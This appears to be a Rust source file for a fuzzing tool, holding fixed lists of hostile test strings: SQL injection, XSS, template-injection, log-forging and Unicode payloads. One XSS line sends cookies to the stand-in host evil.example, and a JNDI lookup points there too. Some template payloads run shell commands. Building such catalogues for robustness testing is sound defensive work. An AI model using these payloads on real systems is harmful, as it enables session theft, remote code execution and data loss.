//! Fixed catalogues of hostile strings and byte patterns.
//!
//! Shared by the mutation engine, span mutator and gork generator so every
//! generator draws attack strings from the same, reviewable list.

use chaos_types::MutationKind;

/// SQL injection payloads.
pub const SQL_INJECTION: &[&str] = &[
    "' OR '1'='1",
    "'; DROP TABLE spans; --",
    "1; SELECT pg_sleep(10); --",
    "' UNION SELECT NULL, username, password FROM users --",
    "admin'--",
    "1' AND (SELECT COUNT(*) FROM information_schema.tables) > 0 --",
];

/// Cross-site scripting payloads.
pub const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "javascript:alert(1)",
    "<svg/onload=fetch('//evil.example/'+document.cookie)>",
    "\"><iframe src=javascript:alert(1)>",
];

/// Server-side template injection payloads.
pub const TEMPLATE_INJECTION: &[&str] = &[
    "{{7*7}}",
    "${7*7}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "<%= system('id') %>",
    "#{7*7}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
];

/// Log forging payloads.
pub const LOG_INJECTION: &[&str] = &[
    "user=alice\r\n2024-01-01T00:00:00Z INFO login succeeded user=admin",
    "${jndi:ldap://evil.example/a}",
    "\u{1b}[2J\u{1b}[1;1Hcleared",
    "line1\nFATAL forged entry",
    "%s%s%s%s%n",
];

/// Text hazards: direction overrides, zero-width, BOM, noncharacters.
pub const UNICODE_HAZARDS: &[&str] = &[
    "\u{202E}gnp.exe",
    "a\u{200B}d\u{200C}m\u{200D}i\u{2060}n",
    "\u{FEFF}bom-prefixed",
    "Z\u{0351}\u{0352}\u{0357}\u{0358}a\u{0300}\u{0301}\u{0302}l\u{0303}g\u{0304}o",
    "\u{FFFF}\u{FFFE}nonchar",
    "\u{0000}nul-inside",
    "\u{2066}isolate\u{2069}",
];

/// Reserved or dangerous keys for attribute maps.
pub const RESERVED_KEYS: &[&str] = &[
    "__proto__",
    "constructor",
    "prototype",
    "__class__",
    "$where",
    "__dict__",
];

/// Catalogue for a security mutation kind; empty for other kinds.
pub fn security_catalogue(kind: MutationKind) -> &'static [&'static str] {
    match kind {
        MutationKind::SqlInjection => SQL_INJECTION,
        MutationKind::XssInjection => XSS,
        MutationKind::TemplateInjection => TEMPLATE_INJECTION,
        MutationKind::LogInjection => LOG_INJECTION,
        _ => &[],
    }
}

/// Byte sequences that are never valid UTF-8.
pub const INVALID_UTF8: &[&[u8]] = &[
    &[0xC3, 0x28],
    &[0xA0, 0xA1],
    &[0xE2, 0x28, 0xA1],
    &[0xF0, 0x28, 0x8C, 0xBC],
    &[0xFF, 0xFE, 0xFD],
    &[0xC0, 0x80],
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn security_catalogues_are_populated() {
        for kind in MutationKind::SECURITY {
            assert!(!security_catalogue(*kind).is_empty(), "{kind} has no payloads");
        }
        assert!(security_catalogue(MutationKind::BitFlip).is_empty());
    }

    #[test]
    fn invalid_utf8_sequences_are_invalid() {
        for seq in INVALID_UTF8 {
            assert!(std::str::from_utf8(seq).is_err(), "{seq:?} decoded");
        }
    }
}
